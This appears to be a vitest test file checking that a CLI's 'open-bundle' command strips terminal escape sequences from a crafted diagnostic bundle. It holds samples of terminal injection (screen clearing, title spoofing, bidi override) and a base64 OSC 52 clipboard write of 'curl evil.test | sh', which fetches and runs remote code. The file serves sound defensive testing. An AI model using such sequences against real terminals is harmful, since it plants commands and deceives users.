// A bundle whose fields carry terminal commands (synthetic, made here): open-bundle prints none of them.
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { readFileSync } from 'node:fs'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { BUNDLE_PATHS } from '../../../main/node/bundle/bundle'
import { EXIT_OK } from '../../../main/node/cli/main'
import { forTerminal } from '../../../main/node/cli/terminalText'
import { buildTestBundle } from '../../helpers/bundles'
import { captureOf } from '../../helpers/captures'
import { realCapture } from '../../helpers/fakeSysroot'
import { runCliCaptured } from '../../helpers/runCli'

const CLEAR_SCREEN = '\u001b[2J\u001b[H'
const RETITLE = '\u001b]0;all is well\u0007'
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007'
const C1_CSI = '\u009b2J'
const OVERWRITE = '\rhealthy'
const BIDI = '\u202ehtlaeh'
const HOSTILE = `${CLEAR_SCREEN}${RETITLE}${CLIPBOARD}${C1_CSI}${OVERWRITE}${BIDI}`

async function hostileBundle(): Promise<string> {
  const { zip } = await buildTestBundle(
    captureOf(readFileSync(realCapture('sequoia-password-registered.txt'), 'utf8')),
  )
  const files = unzipSync(zip)
  const manifest = JSON.parse(strFromU8(files[BUNDLE_PATHS.manifest]!))
  manifest.app.version = `1.0${HOSTILE}`
  const capture = JSON.parse(strFromU8(files[BUNDLE_PATHS.capture]!))
  capture.capture.swVers = {
    status: 'exitCode',
    exitCode: 1,
    stdout: '',
    stderr: `sw_vers: ${HOSTILE}`,
    durationMs: 1,
  }
  files[BUNDLE_PATHS.manifest] = strToU8(JSON.stringify(manifest))
  files[BUNDLE_PATHS.capture] = strToU8(JSON.stringify(capture))
  const file = path.join(mkdtempSync(path.join(tmpdir(), 'psso-escapes-')), 'hostile.zip')
  writeFileSync(file, zipSync(files))
  return file
}

describe('terminal escapes from a bundle never reach the terminal', () => {
  it('open-bundle strips ESC[2J, OSC 0, OSC 52, C1 controls, carriage returns and bidi overrides', async () => {
    const file = await hostileBundle()
    for (const argv of [
      ['open-bundle', file],
      ['open-bundle', file, '--json'],
    ]) {
      const { code, stdout, stderr } = await runCliCaptured(argv)
      expect(code).toBe(EXIT_OK)
      // eslint-disable-next-line no-control-regex
      expect(stdout + stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/)
    }
    const { stdout } = await runCliCaptured(['open-bundle', file])
    expect(stdout.split('\n')[1]).toBe('Everything below is that Mac at that time, not this machine.')
    const cleaned = '[2J[H]0;all is well]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==2Jhealthyhtlaeh'
    expect(stdout.split('\n')[0]).toContain(`by PSSO Helper 1.0${cleaned}).`)
    // JSON escapes C0 controls as text (`\u001b`), inert in a terminal; C1 and bidi characters go.
    const json = (await runCliCaptured(['open-bundle', file, '--json'])).stdout
    expect(JSON.parse(json).capture.appVersion).toBe(
      `1.0${CLEAR_SCREEN}${RETITLE}${CLIPBOARD}2J${OVERWRITE}htlaeh`,
    )
  })

  it('keeps line feeds, tabs and ordinary text (Japanese too)', () => {
    expect(forTerminal('a\tb\nc 修復できました')).toBe('a\tb\nc 修復できました')
  })
})
